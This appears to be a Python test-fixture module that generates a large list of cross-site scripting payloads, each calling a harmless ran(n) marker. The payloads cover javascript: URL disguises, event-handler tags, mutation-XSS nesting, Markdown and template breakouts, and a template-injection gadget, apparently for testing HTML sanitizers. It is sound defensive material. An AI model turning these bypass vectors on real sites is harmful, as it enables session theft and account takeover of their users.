"""Texts that try to run a script in the browser of whoever sees them.

Each calls ``ran(n)`` with its own number, if it gets to run.
"""

from __future__ import annotations

# What is called, in the shapes that filters overlook.
_CALLS = ("ran({n})", "ran&#40;{n}&#41;", "window['ran']({n})", "ran`{n}`")
_ADDRESSES = (
    *("javascript:{call}", "JaVaScRiPt:{call}", " javascript:{call}"),
    *("java\tscript:{call}", "java&#10;script:{call}", "&#106;avascript:{call}"),
    *("&#x6A&#x61vascript:{call}", "javascript&colon;{call}", "\x01javascript:{call}"),
    *("javascript://x/%0a{call}", "data:text/html,<script>{call}</script>"),
    *("vbscript:{call}", "feed:javascript:{call}", "//javascript:{call}"),
)
_PLACES = (
    *('<a href="{address}">x</a>', "[x]({address})", "![x]({address})"),
    *("<{address}>", "[x]: {address}\n[x]", '<img src="{address}">'),
)
_TAGS = (
    *(
        "<script>{call}</script>",
        "<SCRIPT>{call}</SCRIPT>",
        "<script\n>{call}</script>",
    ),
    *("<script/x>{call}</script>", "<script>{call}", "<scr<script>ipt>{call}</script>"),
    *("<<script>{call}//<</script>", "</script><script>{call}</script>"),
    *("<img src=x onerror={call}>", '<img src="x"onerror="{call}">'),
    *("<img/src=x/onerror={call}>", "<img src=x onerror\n=\n{call}>"),
    *("<IMG SRC=x OnErRoR={call}>", "<img src=x oneonerrorrror={call}>"),
    *("<img src=x srcset=x onerror={call}>", "<image src=x onerror={call}>"),
    *(
        "<svg onload={call}>",
        "<svg/onload={call}>",
        "<svg><script>{call}</script></svg>",
    ),
    *("<svg><animate onbegin={call} attributeName=x dur=1s>",),
    *("<svg><a xlink:href='javascript:{call}'><text y=9>x</text></a></svg>",),
    *("<svg><set attributeName=onmouseover to={call}>",),
    *("<svg><foreignObject><img src=x onerror={call}></foreignObject></svg>",),
    *("<math><mtext><img src=x onerror={call}></mtext></math>",),
    *("<math href='javascript:{call}'>x</math>",),
    *("<math><mglyph><style><img src=x onerror={call}></style></mglyph></math>",),
    *("<body onload={call}>", "<iframe src='javascript:{call}'></iframe>"),
    *("<iframe srcdoc='<script>parent.{call}</script>'></iframe>",),
    *("<iframe onload={call}></iframe>", "<object data='javascript:{call}'></object>"),
    *("<embed src='javascript:{call}'>", "<form action='javascript:{call}'><button>x"),
    *(
        "<button formaction='javascript:{call}'>x</button>",
        "<input autofocus onfocus={call}>",
    ),
    *(
        "<select autofocus onfocus={call}></select>",
        "<textarea autofocus onfocus={call}></textarea>",
    ),
    *(
        "<details open ontoggle={call}>x</details>",
        "<marquee onstart={call}>x</marquee>",
    ),
    *("<video src=x onerror={call}></video>", "<video><source onerror={call}></video>"),
    *(
        "<audio src=x onerror={call}></audio>",
        "<link rel=stylesheet href=x onerror={call}>",
    ),
    *("<meta http-equiv=refresh content='0;url=javascript:{call}'>",),
    *("<base href='javascript:{call}//'>", "<style onload={call}></style>"),
    *(
        "<style>@import 'javascript:{call}';</style>",
        "<p style='x:expression({call})'>x</p>",
    ),
    *(
        "<div onmouseover={call}>x</div>",
        "<b onclick={call}>x</b>",
        "<i onfocus={call} tabindex=0>x</i>",
    ),
    *("<p onpointerenter={call}>x</p>", "<p onanimationstart={call}>x</p>"),
    *("<noscript><p title='</noscript><img src=x onerror={call}>'></noscript>",),
    *("<textarea><img title='</textarea><img src=x onerror={call}>'>",),
    *("<title><a title='</title><img src=x onerror={call}>'>",),
    *("<xmp><p title='</xmp><img src=x onerror={call}>'>",),
    *("<!--><img src=x onerror={call}>-->", "<!-- --!><img src=x onerror={call}> -->"),
    *("<![CDATA[><img src=x onerror={call}>]]>", "<?x ><img src=x onerror={call}>?>"),
    *("<template><img src=x onerror={call}></template>",),
    *("<table><td background='javascript:{call}'>x</table>",),
    *(
        '"><img src=x onerror={call}>',
        "'><svg onload={call}>",
        "</title><svg onload={call}>",
    ),
    *("</textarea><svg onload={call}>", "</style><svg onload={call}>"),
    *("]]></script><svg onload={call}>", "\\u003cimg src=x onerror={call}\\u003e"),
    *("&lt;img src=x onerror={call}&gt;", "%3Cimg src=x onerror={call}%3E"),
    *(
        "＜img src=x onerror={call}＞",
        "<img\u2028src=x onerror={call}>",
        "<img\x0bsrc=x onerror={call}>",
    ),
    *(
        "`<img src=x onerror={call}>`",
        "```\n</code></pre><img src=x onerror={call}>\n```",
    ),
    *(
        '```"><img src=x onerror={call}>\nx\n```',
        "$$</span><img src=x onerror={call}>$$",
    ),
    *(
        "\\(\\href{{javascript:{call}}}{{x}}\\)",
        "\\(\\text{{<img src=x onerror={call}>}}\\)",
    ),
    *("| <img src=x onerror={call}> |\n| --- |\n| x |", "# <img src=x onerror={call}>"),
    *('[x](/a "x\\" onmouseover={call}")', '![x" onerror={call} x="](/x.png)'),
    *("x\n{{: onclick='{call}' }}", "[x](/a){{: href='javascript:{call}' }}"),
    *(
        "# x {{onmouseover='{call}'}}",
        "[^x<img src=x onerror={call}>]\n\n[^x<img src=x onerror={call}>]: y",
    ),
    *(
        '{{{{< figure src="x" onerror="{call}" >}}}}',
        '{{{{< x src="javascript:{call}" >}}}}',
    ),
    *(
        "-{{<img src=x onerror={call}>}}-",
        "-{{zh-hans:<script>{call}</script>;zh-hant:x}}-",
    ),
    *("> [!NOTE]<img src=x onerror={call}>\n> x", '<img src=x onerror="{call}" / >'),
    *(
        "{{{{ constructor.constructor('{call}')() }}}}",
        "{{% load x %}}<svg onload={call}>",
    ),
)


def hostile_texts() -> list[str]:
    """Return the texts, in the order of their numbers."""
    shapes = [
        place.replace("{address}", address)
        for place in _PLACES
        for address in _ADDRESSES
    ]
    return [
        shape.format(call=_CALLS[n % len(_CALLS)].format(n=n))
        for n, shape in enumerate([*shapes, *_TAGS])
    ]
